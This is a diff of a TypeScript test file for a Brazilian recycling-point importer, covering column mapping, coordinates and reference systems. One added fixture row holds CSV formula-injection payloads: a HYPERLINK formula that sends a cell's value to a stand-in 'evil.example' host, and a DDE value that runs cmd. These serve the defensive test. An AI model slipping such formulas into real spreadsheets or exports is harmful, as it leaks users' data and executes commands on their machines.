@@ -14,28 +14,32 @@ import { readImportFile } from './file-reading.ts';
 
 const folder = join(import.meta.dirname, '../../../test/inputs');
 
-/** The rows of a file, read with the proposed columns and with what a person chose besides. */
-const understood = async (
-  prefix: string,
-  chosen: (proposed: ImportMapping) => Partial<ImportMapping> = () => ({}),
-): Promise<ReadRow[]> => {
+/** The cells of a file as it is read, what is known of it as a whole, and the columns that are proposed for it. */
+const opened = async (prefix: string) => {
   const name = readdirSync(folder).find((one) => one.startsWith(prefix)) ?? prefix;
   const cells: Record<string, string>[] = [];
   const facts = await readImportFile({ path: join(folder, name), subject: 'points' }, async ({ json }) => {
     for (const row of JSON.parse(json) as { cells: Record<string, string> }[]) cells.push(row.cells);
   });
-  const proposed = proposeMapping(
-    facts.columns.map((column) => column.name),
-    { name, format: facts.format },
-  );
+  const columns = facts.columns.map((column) => column.name);
+  return { cells, facts, proposed: proposeMapping(columns, { name, format: facts.format }) };
+};
+
+/** The rows of a file, read with the proposed columns and with what a person chose besides. */
+const understood = async (
+  prefix: string,
+  chosen: (proposed: ImportMapping) => Partial<ImportMapping> = () => ({}),
+): Promise<ReadRow[]> => {
+  const { cells, facts, proposed } = await opened(prefix);
   return cells.map((one) => readRow(one, { ...proposed, ...chosen(proposed) }, facts.system));
 };
 
 const near = (latitude: number, longitude: number) => ({
-  latitude: expect.closeTo(latitude, 3),
-  longitude: expect.closeTo(longitude, 3),
+  latitude: expect.closeTo(latitude, 4),
+  longitude: expect.closeTo(longitude, 4),
 });
 const fatima = { name: 'Ecoponto Fátima', ...near(-3.7526, -38.5327) };
+const boaVista = near(2.8204, -60.6703);
 
 const points = [
   ['01', [{ ...fatima, address: 'Av. Eduardo Girão, 989', phone: '(85) 3452-1234' }]],
@@ -77,9 +81,19 @@ const points = [
   ['12', [{ name: 'Ecoponto A', ...near(-3.7172, -38.5431) }]],
   ['13', [{ name: 'Ecoponto "A"' }, { address: 'Rua B, 2 fundos' }]],
   ['14', [{ phone: '3452-1111', latitude: -3.75 }]],
-  ['15', [{ latitude: -3.75 }]],
+  [
+    '15',
+    [
+      {
+        name: '=HYPERLINK("http://evil.example/?"&A1,"clique")',
+        address: '+5585988887777',
+        latitude: -3.75,
+        description: "@SUM(1+1)*cmd|'/C calc'!A0",
+      },
+    ],
+  ],
   ['21', [fatima]],
-  ['22', [near(2.82, -60.67)]],
+  ['22', [boaVista]],
   ['23', [fatima]],
   ['30', [{ name: 'Ecoponto A', address: 'Av. Eduardo Girão, 989 - Fátima, Fortaleza - CE' }]],
   ['32', [{ name: 'Ecoponto A', address: 'Rua A, 1', latitude: -3.75 }]],
@@ -100,6 +114,22 @@ test.each(points)('file %s tells its points with no column chosen by a person', 
   expect(rows.map(({ point }) => point)).toEqual(told.map((one) => (one === null ? null : expect.objectContaining(one))));
 });
 
+test.each([
+  ['21', fatima],
+  ['22', boaVista],
+])('file %s is placed by the name of its reference system in the file as in the row', async (prefix, place) => {
+  const { cells, facts, proposed } = await opened(prefix);
+  const { SCR: _scr, SRC: _src, ...unnamed } = cells[0] ?? {};
+  expect(readRow(unnamed, proposed, facts.system).point).toMatchObject(place);
+  expect(readRow(cells[0] ?? {}, proposed, '').point).toMatchObject(place);
+  expect(readRow(unnamed, proposed, '').point).toBeNull();
+});
+
+test('the folder of a map is a column that can be meant as the material', async () => {
+  const [row] = await understood('32', ({ columns }) => ({ columns: { ...columns, materials: ['Pasta'] } }));
+  expect(row?.point).toMatchObject({ name: 'Ecoponto A', materials: ['vidro'] });
+});
+
 test('the minus sign that a column lost is offered for the whole column, and puts its places where they are', async () => {
   const [row] = await understood('11');
   expect(row?.problems).toEqual({ latitude: 'As coordenadas ficam fora do Brasil: falta o sinal de menos?' });
@@ -111,12 +141,7 @@ test('the minus sign that a column lost is offered for the whole column, and put
 });
 
 test('where no column is the name or the address the columns are asked for, and one answer is enough', async () => {
-  let proposal: ImportMapping = { columns: {}, constants: {} };
-  await understood('31', (proposed) => {
-    proposal = proposed;
-    return {};
-  });
-  expect(namesPoints(proposal)).toBe(false);
+  expect(namesPoints((await opened('31')).proposed)).toBe(false);
   const rows = await understood('31', ({ columns }) => ({ columns: { ...columns, address: ['description'] } }));
   expect(rows.map(({ point }) => point)).toMatchObject([
     { name: 'Ponto de coleta – Rua A', address: 'Rua A, 1 - Centro', latitude: -3.75 },
